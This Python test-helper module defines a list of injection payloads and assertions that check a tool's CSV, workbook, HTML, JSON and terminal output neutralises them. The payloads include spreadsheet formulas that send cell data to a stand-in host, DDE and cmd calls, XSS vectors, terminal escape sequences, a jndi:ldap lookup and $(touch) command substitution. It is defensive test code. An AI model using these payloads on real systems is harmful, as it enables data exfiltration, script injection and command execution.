"""Texts that mean harm, and what must hold of every output that has met them.

Each payload carries `MARK`, a word that nobody else writes: where it stands in an
output, foreign text stands. Put the payloads into every field that foreign text can
reach, then ask the assertion of the output's type; `assert_folder_is_inert` asks the
right one for each file of a folder.
"""

from __future__ import annotations

import csv
import io
import json
import re
import unicodedata
import zipfile
from collections.abc import Callable, Iterable, Iterator, Mapping
from html.parser import HTMLParser
from pathlib import Path
from typing import Any, Final
from urllib.parse import unquote
from xml.etree import ElementTree as ET

MARK: Final = "zq7k"

PAYLOADS: Final = (
    # Formulas, as Excel, LibreOffice and Google Sheets begin them.
    f'=HYPERLINK("http://{MARK}.example/?"&A1,"{MARK}")',
    f'=WEBSERVICE("http://{MARK}.example/")',
    f"=cmd|' /C calc'!{MARK}",
    f"+{MARK}+cmd|' /C calc'!A0",
    f"-2+3+{MARK}!A1",
    f"@SUM({MARK})",
    f"\t=1+{MARK}",
    f"\r=1+{MARK}",
    f" \u00a0=1+{MARK}",
    f"＝1+{MARK}",
    f"＋{MARK}",
    f"－{MARK}",
    f"＠{MARK}",
    f"'={MARK}",
    f'=DDE("{MARK}";"a";"b")',
    # Web pages and scripts.
    f"<script>{MARK}()</script>",
    f"<img src=x onerror={MARK}()>",
    f"</title></style></textarea></script><{MARK}>",
    f'<a href="javascript:{MARK}()">{MARK}</a>',
    f"javascript:{MARK}()//",
    f"<svg onload={MARK}()><{MARK}/></svg>",
    f'" onmouseover="{MARK}()',
    f"' autofocus onfocus='{MARK}()",
    f"{{{{1337*7}}}}${{{{1337*7}}}}{{% {MARK} %}}#{{1337*7}}",
    f"%s %(x)s {{0}} {{0.__class__}} %n {MARK}",
    f"]]><!--{MARK}--><![CDATA[",
    f'<!DOCTYPE x [<!ENTITY a "{MARK}">]>&a;&#27;&lt;',
    f"<iframe srcdoc='<b>{MARK}'></iframe><base href=//{MARK}.example>",
    # Terminals.
    f"\x1b[31m{MARK}\x1b[2J\x1b[H",
    f"\x1b]8;;http://{MARK}.example\x07{MARK}\x1b]8;;\x07",
    f"\x1b]52;c;{MARK}\x1b\\\x1bP{MARK}\x1b\\",
    f"\x9b31m{MARK}\x9d0;{MARK}\x9c\x85",
    f"{MARK}\x07\b\b\b\rOK\x7f",
    # Characters that nobody sees.
    f"\u202e{MARK}\u2066x\u2069\u200f\u061c",
    f"{MARK}\u200b\u200d\ufeff\u00ad\u2060",
    f"{MARK}\x00\x01\x1f",
    f"\ud800{MARK}\udfff\ufffe\uffff",
    f"{MARK}\u2028{MARK}\u2029{MARK}\x0b\x0c",
    # What workbooks, CSV and XML files write for something else.
    f"_x000D__x001B__x005F__x0041_{MARK}",
    f'"{MARK}",\r\n"=1",;\t\'"""',
    f"../../{MARK}/..\\{MARK}:aux|?*<>",
    f"&quot;&#x3D;1&#0;{MARK}&amp;",
    f"${{jndi:ldap://{MARK}.example/}}$(touch {MARK})`touch {MARK}`",
)
"""One text for each way; none is much longer than 80 characters."""

_SGR: Final = re.compile("\x1b\\[[0-9;]*[mKA]")
"""What click and tqdm write: a colour, the rest of a line cleared, a line up."""
_BIDI: Final = frozenset(
    "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
)
_UNSEEN: Final = "\u200b\u2060\ufeff"
_NO_TEXT: Final = frozenset(f"{_UNSEEN}\u2028\u2029")
IN_CELLS: Final = f"\n{_UNSEEN}"
"""What a cell or a page may show: a person's own text, with no width."""
_FORMULA: Final = re.compile(r"'*\s*[=+\-@＝＋－＠]")
_NUMBER: Final = re.compile(r"[+-]?[0-9][0-9 .]*")
_ESCAPE: Final = re.compile("_x([0-9A-Fa-f]{4})_")
_REFERENCE: Final = re.compile("&#0*(x[0-9a-f]{1,5}|[0-9]{1,6})")
# In an id, those digits are nobody's sum.
_CALCULATED: Final = re.compile(rf"(?<![\w-]){1337 * 7}(?![\w-])")
_ACTIVE: Final = frozenset({"iframe", "object", "embed", "base", "frame", "applet"})
_URLS: Final = frozenset(
    {"href", "src", "action", "formaction", "xlink:href", "data", "poster", "srcset"}
    | {"ping", "background", "cite", "manifest", "codebase", "longdesc"}
)
_DATA: Final = frozenset({"application/json", "application/ld+json"})


def active_in(text: str, *, keeps: str = "\n") -> list[str]:
    """Name each character of `text` that steers or hides something; not `keeps`."""
    return [
        f"U+{ord(each):04X}"
        for each in text
        if each not in keeps
        and (
            unicodedata.category(each) in {"Cc", "Cs"}
            or each in _BIDI
            or each in _NO_TEXT
        )
    ]


def assert_text_is_inert(text: str, *, keeps: str = "\n") -> None:
    """Check what is printed, logged or told: nothing but text and line ends."""
    found = active_in(text, keeps=keeps)
    assert not found, (found[:9], text[:2_000])


def assert_screen_is_inert(text: str) -> None:
    """Check what stood on a terminal: colours and a progress bar of kawe's own."""
    assert_text_is_inert(_SGR.sub("", text), keeps="\n\r\0")
    # A colour of kawe's own holds no foreign text.
    assert MARK not in "".join(_SGR.findall(text))


def assert_name_is_inert(name: str) -> None:
    """Check the name of a file or folder that kawe made."""
    assert_text_is_inert(name, keeps="")
    assert not set(name) & set('<>:"/\\|?*'), name
    assert not name.startswith((".", "-", "=", "@")), name


def assert_json_is_inert(data: bytes) -> Any:
    """Check a document: strict JSON, no name twice, escapes for what is unseen."""
    text = data.decode("utf-8")
    assert_text_is_inert(text)
    return json.loads(text, object_pairs_hook=_once, parse_constant=_refused)


def assert_json_lines_are_inert(data: bytes) -> None:
    """Check a log or a list that has a document on each line."""
    for line in data.decode("utf-8").splitlines():
        assert_json_is_inert(line.encode())


def assert_csv_is_inert(data: bytes) -> list[list[str]]:
    """Check a table for Excel (RFC 4180): no cell is a formula; give its cells."""
    assert data.startswith(b"\xef\xbb\xbf"), data[:20]
    text = data.decode("utf-8-sig")
    assert_text_is_inert(text, keeps=f"\r{IN_CELLS}")
    # Outside quotes a line ends with CRLF; a quote within quotes is doubled.
    plain = re.sub('"(?:[^"]|"")*"', "", text)
    assert '"' not in plain
    assert plain.count("\r\n") == plain.count("\n") == plain.count("\r")
    assert "\r" not in "".join(re.findall('"((?:[^"]|"")*)"', text))
    rows = list(csv.reader(io.StringIO(text, newline=""), strict=True))
    assert len({len(row) for row in rows}) <= 1
    risky = [
        cell
        for row in rows
        for cell in row
        if not cell.startswith("'")
        and _FORMULA.match(cell)
        and not _NUMBER.fullmatch(cell)
    ]
    assert not risky, risky
    return rows


def assert_workbook_is_inert(data: bytes, *, theirs: bytes = b"") -> None:
    """Check a workbook: nothing in it came from foreign text but text.

    Parts, texts and formulas that the person's own workbook, `theirs`, has already
    may be there again.
    """
    known = _parts(theirs) if theirs else {}
    formulas = {each for part in known.values() for each in _formulas(part)}
    texts = {each for part in known.values() for each in _texts(part)}
    for name, part in _parts(data).items():
        assert_name_is_inert(name.replace("/", "-").removeprefix("["))
        if known.get(name) == part or not name.endswith((".xml", ".rels", ".vml")):
            continue
        assert b"<!DOCTYPE" not in part, name
        new = [each for each in _formulas(part) if each not in formulas]
        assert not any(MARK in each for each in new), (name, new)
        for element in ET.fromstring(part).iter():
            _check_element(element, part=name, theirs=texts)
        assert not name.startswith(
            ("xl/vba", "xl/externalLinks", "xl/embeddings", "xl/connections")
        ), name


def _parts(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _formulas(part: bytes) -> list[str]:
    found = re.findall(rb"<f[ >][^<]*", part)
    return [each.decode("utf-8", "replace") for each in found]


def _texts(part: bytes) -> Iterator[str]:
    if part.lstrip().startswith(b"<"):
        yield from (each.text or "" for each in ET.fromstring(part).iter())


def _check_element(element: ET.Element, *, part: str, theirs: set[str]) -> None:
    tag = element.tag.rpartition("}")[2]
    assert MARK not in tag, (part, tag)
    for name, value in element.attrib.items():
        assert MARK not in name, (part, name)
        assert_text_is_inert(value)
        if name == "Target" and element.get("TargetMode") == "External":
            is_web = value.startswith(("http://", "https://", "mailto:"))
            # Or a file beside the workbook, which stays where it is.
            assert is_web or not {*unquote(value)} & {*"/\\:"}, value
    text = element.text or ""
    if MARK in text and text not in theirs:
        # Excel reads _x001B_ in a text as that character.
        shown = _ESCAPE.sub(lambda to: chr(int(to[1], 16)), text)
        assert_text_is_inert(shown, keeps=IN_CELLS)
    if tag in {"definedName", "formula1", "formula2"}:
        # The name of a sheet stands there in quotes.
        assert MARK not in re.sub("'(?:[^']|'')*'", "", text), (part, text)


class _Page(HTMLParser):
    """Walks a page, and keeps what is wrong with it."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.wrong: list[str] = []
        self._within = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if MARK in tag or tag in _ACTIVE:
            self.wrong.append(f"element {tag}")
        for name, value in attrs:
            self._check_attribute(tag, name, value or "")
        if tag in {"script", "style"}:
            kind = dict(attrs).get("type") or ""
            self._within = "data" if kind in _DATA else tag

    def handle_endtag(self, tag: str) -> None:
        if MARK in tag:
            self.wrong.append(f"element /{tag}")
        self._within = ""

    def handle_data(self, data: str) -> None:
        if self._within == "data":
            if "<" in data:
                self.wrong.append(f"a data block with <: {data[:80]}")
            assert_json_is_inert(data.strip().encode())
        elif self._within and MARK in data:
            self.wrong.append(f"{self._within} {data[:80]}")

    def handle_comment(self, data: str) -> None:
        if MARK in data:
            self.wrong.append(f"comment {data[:80]}")

    def handle_decl(self, decl: str) -> None:
        self.handle_comment(decl)

    def handle_pi(self, data: str) -> None:
        self.handle_comment(data)

    def unknown_decl(self, data: str) -> None:
        self.handle_comment(data)

    def _check_attribute(self, tag: str, name: str, value: str) -> None:
        folded = "".join(value.split()).casefold()
        if MARK in name or (MARK in value and name.startswith(("on", "style"))):
            self.wrong.append(f"{tag} {name}={value[:80]}")
        if name in {"srcdoc", "http-equiv"} and MARK in value:
            self.wrong.append(f"{tag} {name}={value[:80]}")
        if name not in _URLS:
            return
        host = re.match(rf"[a-z+.-]*:?//[^/?#]*{MARK}", folded)
        scheme = re.match(r"[a-z][a-z0-9+.-]*:", folded)
        is_data = tag in {"img", "link", "image"} and folded.startswith("data:image/")
        if host or (
            scheme and scheme[0] not in {"http:", "https:", "mailto:"} and not is_data
        ):
            self.wrong.append(f"{tag} {name}={value[:80]}")


def assert_html_is_inert(text: str) -> None:
    """Check a page: no element, attribute, script or URL came from foreign text.

    Foreign text may be shown, and stand in attributes that only hold text (`title`,
    `value`, `aria-label`, `data-…`); a block of JSON has no `<`.
    """
    assert_text_is_inert(text, keeps=f"\r\t{IN_CELLS}")
    raw = [each for each in PAYLOADS if re.search("<[a-z/!]", each) and each in text]
    assert not raw, raw
    page = _Page()
    page.feed(text)
    page.close()
    assert not page.wrong, page.wrong
    # A browser shows &#27; as its character; Python drops it.
    codes = (
        int(each[1:], 16) if each.startswith("x") else int(each)
        for each in _REFERENCE.findall(text.casefold())
    )
    assert_text_is_inert("".join(map(chr, codes)), keeps=f"\r\t{IN_CELLS}")
    assert not _CALCULATED.search(text)


def assert_folder_is_inert(
    folder: Path,
    *,
    sparing: Iterable[Path] = (),
    theirs: Mapping[str, bytes] | None = None,
) -> int:
    """Check every file below `folder`; give how many were looked at.

    `sparing` are files of the person's own; `theirs` has the workbook that a result
    gives back, by the result's name.
    """
    spared = {path.resolve() for path in sparing}
    looked = [path for path in _files(folder) if path.resolve() not in spared]
    for path in looked:
        # A result begins with the name of the person's own file.
        if not any(path.name.startswith(each.stem) for each in spared):
            assert_name_is_inert(path.name.removeprefix("."))
        assert_file_is_inert(path, theirs=(theirs or {}).get(path.name, b""))
    return len(looked)


def assert_file_is_inert(path: Path, *, theirs: bytes = b"") -> None:
    """Check a file by its ending."""
    data, ending = path.read_bytes(), path.suffix.casefold()
    if ending in {".xlsx", ".xlsm"}:
        assert_workbook_is_inert(data, theirs=theirs)
    elif ending in _CHECKS:
        _CHECKS[ending](data)


_CHECKS: Final[Mapping[str, Callable[[bytes], object]]] = {
    ".csv": assert_csv_is_inert,
    ".json": assert_json_is_inert,
    ".geojson": assert_json_is_inert,
    ".jsonl": assert_json_lines_are_inert,
    ".log": assert_json_lines_are_inert,
    ".html": lambda data: assert_html_is_inert(data.decode("utf-8")),
    ".ics": lambda data: assert_text_is_inert(data.decode("utf-8"), keeps="\n\r"),
    ".txt": lambda data: assert_text_is_inert(data.decode("utf-8"), keeps="\n\r"),
    ".toml": lambda data: assert_text_is_inert(data.decode("utf-8")),
    ".md": lambda data: assert_text_is_inert(data.decode("utf-8")),
}


def _files(folder: Path) -> Iterator[Path]:
    for path in sorted(folder.rglob("*")):
        if path.is_file() and not path.is_symlink():
            yield path


def replaced(value: Any, *, by: Iterator[str], keeping: frozenset[str]) -> Any:
    """Give a JSON value with every text replaced, but for fields in `keeping`."""
    match value:
        case dict():
            return {
                name: each
                if name in keeping
                else replaced(each, by=by, keeping=keeping)
                for name, each in value.items()
            }
        case list():
            return [replaced(each, by=by, keeping=keeping) for each in value]
        case str():
            return next(by)
        case _:
            return value


def _once(pairs: list[tuple[str, Any]]) -> dict[str, Any]:
    names = [name for name, _ in pairs]
    assert len(names) == len(set(names)), names
    return dict(pairs)


def _refused(name: str) -> None:
    raise AssertionError(name)
